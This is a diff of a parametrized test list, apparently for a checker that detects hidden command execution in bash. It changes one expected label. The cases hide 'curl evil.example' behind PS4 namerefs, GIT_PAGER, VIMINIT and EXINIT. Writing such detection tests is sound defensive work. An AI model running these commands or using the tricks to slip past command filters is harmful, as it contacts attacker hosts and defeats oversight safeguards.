@@ -25,7 +25,7 @@ def setup(tmp_path_factory):
     ("read x < notes.txt; echo ${x@P}", "${x@P}"),
     ("declare -n r=PS4; r='$(curl evil.example)'; set -x; ls", "a name for $PS4"),
     ("declare -n r=GIT_PAGER; r=curl; git log", "a name for $GIT_PAGER"),
-    ("declare -n r; r=PS4; r='$(curl evil.example)'; set -x; ls", "a variable chosen later"),
+    ("declare -n r; r=PS4; r='$(curl evil.example)'; set -x; ls", "a name for $PS4"),
     ("VIMINIT=':!curl evil.example' vim -es notes.txt", "$VIMINIT"),
     ("EXINIT='!curl evil.example' ex -s notes.txt", "$EXINIT"),
 ])
